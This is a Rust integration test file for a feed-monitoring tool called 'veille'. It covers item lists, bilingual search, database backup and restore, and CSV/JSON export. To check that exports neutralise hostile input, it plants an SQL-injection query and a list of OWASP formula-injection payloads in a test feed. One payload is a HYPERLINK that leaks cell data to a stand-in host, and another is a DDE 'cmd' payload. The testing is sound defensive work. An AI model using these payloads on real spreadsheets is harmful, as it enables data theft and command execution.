//! `veille items` and `veille db` from outside: the shapes that scripts rely on.
#![expect(clippy::unwrap_used, reason = "helpers of tests")]

use serde_json::{Value, json};
use veille_testbench::{
    farm::{Farm, FarmFeed},
    home::Home,
};

fn filled() -> (Farm, Home) {
    let items: String = [
        ("Règlement sur les modèles", "fr", "La loi entre en application. « Un pas », a déclaré la ministre."),
        ("New release of the model", "en", "According to the team, it is faster."),
    ]
    .iter()
    .enumerate()
    .map(|(number, (title, language, text))| {
        format!(
            "<entry xml:lang=\"{language}\"><title>{title}</title><id>urn:x:{number}</id><link href=\"https://site.example/{number}\"/>\
             <author><name>Ada Byron</name></author><published>2026-11-1{number}T08:00:00Z</published>\
             <updated>2026-11-1{number}T08:00:00Z</updated><content type=\"html\">&lt;p&gt;{text}&lt;/p&gt;</content></entry>"
        )
    })
    .collect();
    let body = format!(
        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>F</title><id>urn:f</id><updated>2026-11-20T00:00:00Z</updated>{items}</feed>"
    );
    let farm = Farm::serve([FarmFeed { content_type: "application/atom+xml".to_owned(), body: body.into() }]);
    let home = farm.home();
    assert_eq!(home.json(&["refresh", "--all", "--json"])["new_items"], 2);
    (farm, home)
}

fn titles(rows: &Value) -> Vec<&str> {
    rows.as_array().unwrap().iter().map(|row| row["title"].as_str().unwrap()).collect()
}

#[test]
fn rows_hold_what_is_promised_and_decisions_show() {
    let (_farm, home) = filled();
    let rows = home.json(&["items", "list", "--json"]);
    for field in [
        "id",
        "source",
        "title",
        "url",
        "language",
        "published_at",
        "first_seen_at",
        "themes",
        "relevance",
        "reliability",
        "story",
        "decision",
    ] {
        assert!(rows[0].get(field).is_some(), "no {field} in {}", rows[0]);
    }
    assert_eq!(rows[0]["themes"], json!(["all"]));
    assert!(rows[0]["reliability"]["score"].as_f64().unwrap() > 0.0);
    let id = rows[0]["id"].to_string();
    for (verb, reason) in [("later", ""), ("keep", "la version attendue")] {
        let row = home.json(&["items", verb, &id, "--as", "ada", "--reason", reason, "--json"]);
        assert_eq!(row["decision"], verb);
    }
    let shown = home.json(&["items", "show", &id, "--json"]);
    assert_eq!((shown["decisions"].as_array().unwrap().len(), &shown["decision"]), (2, &json!("keep")));
    assert!(!shown["ledger"]["lines"].as_array().unwrap().is_empty());
    assert!(shown["content_text"].as_str().is_some_and(|text| !text.is_empty()));
    assert_eq!(titles(&home.json(&["items", "list", "--state", "keep", "--json"])).len(), 1);
    let people = home.run(&["items", "show", &id, "--lang", "fr"]);
    let text = String::from_utf8_lossy(&people.stdout).into_owned();
    assert!(people.status.success() && text.contains("Ada Byron") && text.contains("Thèmes"), "{text}");
}

#[test]
fn search_finds_both_languages_and_survives_anything() {
    let (_farm, home) = filled();
    for (query, expected) in [
        (&["reglement", "modele"][..], &["Règlement sur les modèles"][..]),
        (&["releases"], &["New release of the model"]),
        (&["ministre"], &["Règlement sur les modèles"]),
        (&["\" OR 1=1 --"], &[]),
        (&["((("], &[]),
    ] {
        let mut arguments = vec!["items", "search", "--json", "--"];
        arguments.extend(query);
        assert_eq!(titles(&home.json(&arguments)), expected, "{query:?}");
    }
}

#[test]
fn a_backup_comes_back_and_a_bad_file_does_not() {
    let (_farm, home) = filled();
    let file = home.path().join("backup.sqlite3");
    let file = file.to_str().unwrap();
    assert!(home.run(&["db", "backup", file]).status.success());
    assert_eq!(home.json(&["db", "check", "--json"]), json!({"ok": true, "problems": []}));
    home.run(&["items", "drop", "1", "--as", "ada"]);
    assert_eq!(titles(&home.json(&["items", "list", "--state", "drop", "--json"])).len(), 1);

    let restored = home.json(&["db", "restore", file, "--json"]);
    assert!(std::path::Path::new(restored["kept"].as_str().unwrap()).exists(), "the old one is kept");
    assert_eq!(titles(&home.json(&["items", "list", "--state", "drop", "--json"])).len(), 0);
    assert_eq!(titles(&home.json(&["items", "list", "--json"])).len(), 2);

    let whole = std::fs::read(file).unwrap();
    let mut damaged = whole.clone();
    damaged[4_096 * 3..4_096 * 5].fill(0xff);
    for (name, bytes) in [
        ("cut", &whole[..whole.len() / 2]),
        ("damaged", &damaged),
        ("empty", &[][..]),
        ("text", b"not a database at all, but long enough"),
    ] {
        let bad = home.path().join(name);
        std::fs::write(&bad, bytes).unwrap();
        let output = home.run(&["db", "restore", bad.to_str().unwrap()]);
        assert!(!output.status.success(), "{name} was restored");
        assert_eq!(titles(&home.json(&["items", "list", "--json"])).len(), 2, "{name} harmed the database");
    }
    let notes = home.path().join("notes.txt");
    std::fs::write(&notes, "mine").unwrap();
    assert_eq!(home.run(&["db", "backup", notes.to_str().unwrap()]).status.code(), Some(4));
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "mine");
}

#[test]
fn everything_can_be_taken_away() {
    let (_farm, home) = filled();
    home.run(&["items", "keep", "1", "--as", "ada"]);
    let folder = home.path().join("export");
    let counts = home.json(&["db", "export", folder.to_str().unwrap(), "--json"]);
    assert_eq!(counts, json!({"sources": 1, "items": 2, "decisions": 1, "trust": 0, "editions": 0, "subscribers": 0}));
    let lines = std::fs::read_to_string(folder.join("items.jsonl")).unwrap();
    let item: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    assert!(item["content_html"].as_str().unwrap().contains("<p>"), "{item}");
    assert_eq!(item["authors"][0][0], "Ada Byron");
    let csv = std::fs::read_to_string(folder.join("decisions.csv")).unwrap();
    assert!(csv.starts_with("item,verdict,actor,reason,decided_at\n1,keep,ada,"), "{csv}");
}

/// A table program takes a text that begins so for a formula, and runs it (OWASP, CSV injection).
const FORMULAS: [&str; 8] =
    ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x.example/?\"&A1)", "＝1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0"];
const DIGEST: &str = "[[digest]]\nslug = \"hebdo\"\nschedule = \"0 8 * * Mon\"\n";

/// A feed whose texts are formulas.
fn of_formulas() -> FarmFeed {
    let item = |(number, formula): (usize, &&str)| {
        let text = formula.replace('&', "&amp;");
        format!(
            "<item><title>{text} law</title><guid>={number}</guid><category>=tag</category><author>@{text}</author>\
             <description>{text} law</description></item>"
        )
    };
    let items: String = FORMULAS.iter().enumerate().map(item).collect();
    let body = format!("<rss version=\"2.0\"><channel><title>=t</title>{items}</channel></rss>");
    FarmFeed { content_type: "application/rss+xml".to_owned(), body: body.into() }
}

/// Cells of all tables that begin as formulas do.
fn formulas_in(folder: &std::path::Path) -> Vec<String> {
    let signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let mut found = Vec::new();
    for name in ["sources", "items", "decisions", "editions", "subscribers"] {
        let mut reader = csv::Reader::from_path(folder.join(name).with_extension("csv")).unwrap();
        for record in reader.records().map(Result::unwrap) {
            let is_one = |cell: &&str| cell.starts_with(signs) && cell.parse::<f64>().is_err();
            found.extend(record.iter().filter(is_one).map(|cell| format!("{name}: {cell:?}")));
        }
    }
    found
}

fn with_digest(home: &Home) {
    let path = home.path().join("sources.toml");
    let sources = std::fs::read_to_string(&path).unwrap();
    std::fs::write(path, sources + DIGEST).unwrap();
}

#[test]
fn no_cell_of_an_export_is_a_formula_and_an_address_finds_its_way_back() {
    let farm = Farm::serve([of_formulas()]);
    let home = farm.home();
    with_digest(&home);
    assert!(home.run(&["refresh", "--all"]).status.success());
    for (arguments, reason) in [(["items", "keep", "1"], "=1+1"), (["items", "drop", "2"], "\t-1")] {
        assert!(home.run(&[&arguments[..], &["--as", "@ada", "--reason", reason]].concat()).status.success());
    }
    let addresses = ["+tag@example.org", "-x@example.org", "=y@example.org", "o'neil@example.org"];
    for address in addresses {
        let added = home.run(&["subscribers", "add", "--", address, "hebdo"]);
        assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
    }
    let folder = home.path().join("export");
    home.json(&["db", "export", folder.to_str().unwrap(), "--json"]);
    assert_eq!(formulas_in(&folder), Vec::<String>::new());
    let lines = std::fs::read_to_string(folder.join("items.jsonl")).unwrap();
    assert!(lines.contains(r#""title":"=1+1 law""#), "the JSON lines have it as it is: {lines}");
    let (_farm, other) = filled();
    with_digest(&other);
    let imported = other.run(&["subscribers", "import", folder.join("subscribers.csv").to_str().unwrap()]);
    assert!(imported.status.success(), "{}", String::from_utf8_lossy(&imported.stderr));
    let rows = other.json(&["subscribers", "list", "--json"]);
    let mut back: Vec<&str> = rows.as_array().unwrap().iter().map(|row| row["email"].as_str().unwrap()).collect();
    back.sort_unstable();
    assert_eq!(back, addresses);
}
